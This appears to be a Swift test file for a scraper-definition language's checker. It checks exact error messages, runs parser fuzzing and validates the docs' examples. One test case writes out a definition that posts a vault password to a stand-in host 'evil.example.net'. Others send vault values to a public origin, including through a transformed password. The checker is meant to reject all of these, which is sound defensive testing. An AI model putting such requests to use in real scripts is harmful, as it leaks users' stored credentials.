import Foundation
import NightjarCore
import Testing

@testable import NightjarScript

/// Malformed definitions and the exact error each produces: `file:line:column` and message.
@Suite struct CheckerTests {
    static let header = """
        portal demo "Demo"
        origin main "https://portal.example.com"

        """

    /// (definition body after the header, expected "line:column: message").
    static let cases: [(String, String)] = [
        (
            "remittances {\n  gte \"/x\"\n  download get \"/f\" kind remittance\n}",
            "4:3: unknown step `gte` (did you mean `get`?)"
        ),
        (
            "remittances {\n  get \"/x\"\n  let t = xpth \"//a\"\n  download get t kind remittance\n}",
            "5:11: unknown function `xpth` (did you mean `xpath`?)"
        ),
        ("remittances {\n  get \"/x\"\n  download get toke kind remittance\n}", "5:16: unknown name `toke`"),
        (
            "remittances {\n  let token = \"a\"\n  download get tokn kind remittance\n}",
            "5:16: unknown name `tokn` (did you mean `token`?)"
        ),
        (
            "remittances {\n  download get \"/f\" kind remitance\n}",
            "4:26: unknown document kind `remitance` (did you mean `remittance`?)"
        ),
        (
            "remittances {\n  download get \"/f\"\n}",
            "4:3: say what the download is: `kind remittance` (or invoice, purchase_order, statement, other)"
        ),
        ("remittances {\n  get \"/x\"\n}", "3:1: `remittances` can never download anything: it has no `download` step"),
        (
            "remittances {\n  while true {\n    download get \"/f\" kind remittance\n  }\n}",
            "4:3: this loop has no bound: add `limit N` (at most 500 rounds)"
        ),
        (
            "remittances {\n  fail auth_faild if text \"x\"\n  download get \"/f\" kind remittance\n}",
            "4:8: unknown failure class `auth_faild` (did you mean `auth_failed`?)"
        ),
        (
            "remittances {\n  expect \"Welcome\"\n  download get \"/f\" kind remittance\n}",
            "4:10: a condition must be true or false, not text (e.g. text \"Sign out\", status 200, element \"//form\") (did you mean `text \"Welcome\"`?)"
        ),
        (
            "remittances {\n  get \"/x\" query { from: range.form }\n  download get \"/f\" kind remittance\n}",
            "4:26: `range` has `from` and `to` (did you mean `from`?)"
        ),
        (
            "remittances {\n  get \"/x\" query { d: 5 | date \"yyyy\" }\n  download get \"/f\" kind remittance\n}",
            "4:23: `| date` formats a date (range.from, or text like 2026-11-01), not number"
        ),
        (
            "remittances {\n  get \"/x\" query { d: range.from | dte \"yyyy\" }\n  download get \"/f\" kind remittance\n}",
            "4:23: unknown filter `dte` (did you mean `date`?)"
        ),
        (
            "remittances {\n  for row in \"text\" {\n    download get \"/f\" kind remittance\n  }\n}",
            "4:14: `for` walks a list (xpath, regex, json, split), not text"
        ),
        (
            "remittances {\n  post \"https://evil.example.net/x\" form { p: vault.password }\n  download get \"/f\" kind remittance\n}",
            "4:8: https://evil.example.net:443 is not one of the definition's origins; declare it with `origin NAME \"https://evil.example.net:443\"`"
        ),
        (
            "origin cdn \"https://cdn.example.com\" public\nremittances {\n  get \"/x\" via cdn query { u: vault.username }\n  download get \"/f\" kind remittance\n}",
            "5:3: this request would send a vault value to origin `cdn`, which is marked public"
        ),
        (
            "origin cdn \"https://cdn.example.com\" public\nremittances {\n  let laundered = vault.password | lower | replace \"a\" \"b\"\n  get \"/x\" via cdn headers { X: \"k=${laundered}\" }\n  download get \"/f\" kind remittance\n}",
            "6:3: this request would send a vault value to origin `cdn`, which is marked public"
        ),
        ("remittances {\n  get \"/x\" via api\n  download get \"/f\" kind remittance\n}", "4:3: unknown origin `api`"),
        (
            "remittances {\n  download get \"/f\" kind remittance name vault.username\n}",
            "4:42: a file name may not carry a vault value"
        ),
        (
            "remittances {\n  get \"/x\"\n  let x = 1\n  x = 2\n  download get \"/f\" kind remittance\n}",
            "6:3: unknown step `x`; bind a value with `let x = ...` (did you mean `let`?)"
        ),
        (
            "remittances {\n  if status = 200 {\n    download get \"/f\" kind remittance\n  }\n}",
            "4:13: `=` binds a name; compare with `==` (did you mean `==`?)"
        ),
        (
            "remittances {\n  get \"/x\n  download get \"/f\" kind remittance\n}",
            "4:7: this string is not closed on its line (use \"\"\" for text over several lines)"
        ),
        (
            "remittances {\n  get \"/x\\q\"\n  download get \"/f\" kind remittance\n}",
            "4:10: unknown escape `\\q` (known: \\n \\t \\r \\\" \\\\ \\$ \\u{...})"
        ),
        (
            "remittances {\n  get \"/x\"\n  download get \"/f\" kind remittance\n",
            "3:13: this block is not closed with `}`"
        ),
        (
            "remitances {\n  download get \"/f\" kind remittance\n}",
            "3:1: unknown declaration `remitances` (did you mean `remittances`?)"
        ),
        (
            "window 31 weeks\nremittances {\n  download get \"/f\" kind remittance\n}",
            "3:11: the window is counted in days (did you mean `days`?)"
        ),
        (
            "timeout 30 secs\nremittances {\n  download get \"/f\" kind remittance\n}",
            "3:12: unknown unit `secs` (did you mean `seconds`?)"
        ),
        (
            "pages max 5000\nremittances {\n  download get \"/f\" kind remittance\n}",
            "3:1: the page limit must be between 1 and 500"
        ),
        (
            "remittances {\n  get \"/x\" form { a: \"b\" }\n  download get \"/f\" kind remittance\n}",
            "4:12: a GET request has no body; use `post` to send form"
        ),
        (
            "remittances {\n  log page\n  download get \"/f\" kind remittance\n}",
            "4:7: `page` is only known inside `pages next ... { }`"
        ),
        (
            "remittances {\n  let status = 5\n  download get \"/f\" kind remittance\n}",
            "4:3: `status` is a built-in name; choose another"
        ),
        (
            "remittances {\n  download get \"/f\" kind remittance\n}\nremittances {\n  download get \"/g\" kind remittance\n}",
            "6:1: `remittances` is declared twice (first at line 3)"
        ),
        (
            "remittances {\n  get \"/x\" query { a: xpath(\"//a\", \"//b\", \"//c\") }\n  download get \"/f\" kind remittance\n}",
            "4:23: `xpath` takes 1 or 2 arguments, not 3"
        ),
        (
            "remittances {\n  get \"/x\" headers { A: \"${vault.}\" }\n  download get \"/f\" kind remittance\n}",
            "4:34: expected a name after `vault.`, found the end of the file"
        ),
        (
            "remittances {\n  wait 10 minutes\n  download get \"/f\" kind remittance\n}",
            "4:11: wait is counted in seconds (did you mean `seconds`?)"
        ),
        ("remittances {\n  get \"/x\"\n  download get \"/f\" kind remittance ¤\n}", "5:37: unexpected character `¤`"),
        (
            "remittances {\n  get \"/x\" query { a: \"b\" c: \"d\" }\n  download get \"/f\" kind remittance\n}",
            "4:27: expected `,` or a new line between fields, found `c`"
        ),
        (
            "remittances {\n  get \"/x\" query { \"a b\" 1 }\n  download get \"/f\" kind remittance\n}",
            "4:26: expected `:` after the field name `a b`, found the number 1"
        ),
        (
            "remittances {\n  post \"/x\" json { a: 1 b: 2 }\n  download get \"/f\" kind remittance\n}",
            "4:25: expected `,` or a new line between keys, found `b`"
        ),
        (
            "remittances {\n  post \"/x\" json { a { b: 2 } }\n  download get \"/f\" kind remittance\n}",
            "4:22: expected `:` after the key `a`, found `{`"
        ),
        (
            "remittances {\n  post \"/x\" json { 5: 1 }\n  download get \"/f\" kind remittance\n}",
            "4:20: expected a key, found the number 5"
        ),
        (
            "remittances {\n  get \"/x\" query { a: [1 2] }\n  download get \"/f\" kind remittance\n}",
            "4:26: expected `,` or `]`, found the number 2"
        ),
        (
            "remittances {\n  post \"/x\" json { a: [1, \"b\" 3] }\n  download get \"/f\" kind remittance\n}",
            "4:31: expected `,` or `]`, found the number 3"
        ),
        (
            "remittances {\n  download get \"/f\" kind remittance expect type xslx\n}",
            "4:49: unknown document type `xslx` (did you mean `xlsx`?)"
        ),
        (
            "remittances {\n  download get \"/f\" kind remittance expect csv\n}",
            "4:44: write `expect type csv` (or x12, xlsx, json, html, pdf, xml, text)"
        ),
    ]

    @Test func everyMalformedDefinitionGivesItsExactError() {
        #expect(CheckerTests.cases.count >= 25)
        for (body, expected) in CheckerTests.cases {
            let text = CheckerTests.header + body
            do {
                _ = try ScraperChecker.load(text, file: "demo.scraper")
                Issue.record("no error for:\n\(body)")
            } catch {
                let first = error.errors[0]
                let got = "\(first.location?.line ?? 0):\(first.location?.column ?? 0): \(first.message)"
                #expect(got == expected, "for:\n\(body)")
                #expect(first.location?.file == "demo.scraper")
            }
        }
    }

    @Test func aDefinitionMustNameItsPortalAndOrigin() {
        #expect(throws: ScriptErrors.self) {
            try ScraperChecker.load(
                "origin main \"https://a.example\"\nremittances { download get \"/f\" kind remittance }", file: "x")
        }
        #expect(throws: ScriptErrors.self) {
            try ScraperChecker.load("portal a\nremittances { download get \"/f\" kind remittance }", file: "x")
        }
    }

    @Test func theCheckerReportsEveryProblemNotJustTheFirst() {
        let text =
            CheckerTests.header
            + "remittances {\n  get toke\n  get \"/y\" query { a: range.frm }\n  download get \"/f\" kind remitance\n}"
        // The parser stops at the unknown kind; fix that and the checker finds both name errors.
        #expect(throws: ScriptErrors.self) { try ScraperChecker.load(text, file: "x") }
        let fixed = text.replacingOccurrences(of: "remitance\n", with: "remittance\n")
        do {
            _ = try ScraperChecker.load(fixed, file: "x")
            Issue.record("expected errors")
        } catch {
            #expect(error.errors.count == 2)
            #expect(error.message.contains("x:4:7: unknown name `toke`"))
            #expect(error.message.contains("x:5:23: `range` has `from` and `to`"), "\(error.message)")
        }
    }

    @Test(arguments: ["sandbox-html-portal", "sandbox-json-api", "sandbox-totp-portal"])
    func theShippedDefinitionsAreClean(portal: String) throws {
        let definition = try ScriptTestSupport.shipped(portal)
        #expect(definition.portal == portal)
        #expect(definition.vaultFields.contains("password"))
        #expect(definition.block(for: .remittance) != nil)
    }

    @Test func stringsEscapesInterpolationAndMultilineText() throws {
        let text =
            CheckerTests.header + """
                remittances {
                  let name = "Caf\\u{E9} \\"quoted\\" \\$5 tab\\tend"
                  let raw = 'single ${not} "interpolated"'
                  let note = \"\"\"
                    first line
                      indented
                    last line
                    \"\"\"
                  download get "/files/${name}" kind remittance name "n-${raw}"
                }
                """
        let definition = try ScriptTestSupport.parse(text)
        guard case .bind(_, let first) = definition.documents[0].body.statements[0].kind,
            case .string(let parts) = first.kind,
            case .text(let value) = parts[0]
        else {
            Issue.record("not a string")
            return
        }
        #expect(value == "Café \"quoted\" $5 tab\tend")
        guard case .bind(_, let second) = definition.documents[0].body.statements[1].kind,
            case .string(let rawParts) = second.kind,
            case .text(let rawValue) = rawParts[0]
        else {
            Issue.record("not a string")
            return
        }
        #expect(rawValue == "single ${not} \"interpolated\"")
        guard case .bind(_, let third) = definition.documents[0].body.statements[2].kind,
            case .string(let noteParts) = third.kind,
            case .text(let note) = noteParts[0]
        else {
            Issue.record("not a string")
            return
        }
        #expect(note == "first line\n  indented\nlast line")
    }

    @Test func expressionsKeepTheirSourceText() throws {
        let definition = try ScriptTestSupport.parse(
            CheckerTests.header
                + "remittances {\n  expect element \"//table\"\n  download get \"/f\" kind remittance\n}")
        guard case .expect(let condition, _, _) = definition.documents[0].body.statements[0].kind else {
            Issue.record("not expect")
            return
        }
        #expect(condition.text == "element \"//table\"")
    }

    /// Random damage to real definitions: always an error or a definition, never a crash or a hang.
    @Test func mangledDefinitionsNeverCrash() throws {
        var generator = SeededRandom(seed: 7)
        let sources = try ["sandbox-html-portal", "sandbox-json-api", "sandbox-totp-portal"].map {
            try String(contentsOfFile: ScriptTestSupport.repositoryRoot + "/scrapers/\($0).scraper", encoding: .utf8)
        }
        let noise: [String] = [
            "{", "}", "\"", "'", "(", ")", "|", "${", "\"\"\"", "\\", "\u{0}", "é", "\n", "==", "limit", "0",
            "99999999999999999999",
        ]
        for round in 0..<600 {
            var scalars = Array(sources[round % 3].unicodeScalars)
            for _ in 0..<(1 + Int(generator.next() % 4)) {
                let position = Int(generator.next() % UInt64(scalars.count))
                switch generator.next() % 3 {
                case 0: scalars.removeSubrange(position..<min(scalars.count, position + Int(generator.next() % 20)))
                case 1:
                    scalars.insert(
                        contentsOf: noise[Int(generator.next() % UInt64(noise.count))].unicodeScalars, at: position)
                default: scalars = Array(scalars[..<position])
                }
                if scalars.isEmpty { break }
            }
            var text = ""
            text.unicodeScalars.append(contentsOf: scalars)
            _ = try? ScraperChecker.load(text, file: "fuzz.scraper")
        }
    }
}

/// Every complete definition in the language reference checks clean, so the docs stay true.
@Suite struct DocumentationExampleTests {
    @Test func theReferenceExamplesCheckClean() throws {
        let text = try String(
            contentsOfFile: ScriptTestSupport.repositoryRoot + "/docs/scraper-language.md", encoding: .utf8)
        let blocks = text.components(separatedBy: "```").enumerated().filter { $0.offset % 2 == 1 }.map(\.element)
        let definitions = blocks.map { $0.hasPrefix("\n") ? String($0.dropFirst()) : $0 }
            .map { block in
                block.split(separator: "\n", omittingEmptySubsequences: false).map {
                    $0.hasPrefix("   ") ? String($0.dropFirst(3)) : String($0)
                }.joined(separator: "\n")
            }
            .filter { $0.contains("portal ") && $0.contains("origin ") && !$0.contains("nightjar ") }
        #expect(definitions.count >= 2)
        for definition in definitions {
            do { _ = try ScraperChecker.load(definition, file: "docs") } catch {
                Issue.record("\(error.message)\n\(definition)")
            }
        }
        // The snippets in the tables parse as steps inside a block.
        let header =
            "portal d \"D\"\norigin main \"https://a.example\"\norigin api \"https://b.example\"\norigin cdn \"https://c.example\" public\n"
        let snippets = [
            "let token = json \"access_token\" | secret",
            "let cursor = json \"next_cursor\" | default \"\"",
            "log \"found ${count(xpath \"//tr\")} rows\"",
            "let d = today | add_days -1",
            "let e = date \"2026-11-01\" | add_days 30",
            "let f = \"a b\" | replace(\" \", \"%20\")",
            "post \"/x\" body \"<q/>\" type \"application/xml\"",
            "post \"/x\" json { username: vault.username, remember: true, list: [1, 2] }",
            "get \"/v2/files\" via api",
            "if exists(xpath \"//a[@rel='next']\") { log page_hint }",
            "let n = 1\nlet more = true\nwhile more limit 20 {\n  get \"/list\" query { page: n }\n  let more = exists(xpath \"//tr[td]\")\n  let n = n + 1\n}",
        ]
        for snippet in snippets {
            let body = snippet.replacingOccurrences(of: "log page_hint", with: "log \"next\"")
            do {
                _ = try ScraperChecker.load(
                    header + "remittances {\n\(body)\ndownload get \"/f\" kind remittance\n}\n", file: "snippet")
            } catch {
                Issue.record("\(snippet): \(error.message)")
            }
        }
    }
}
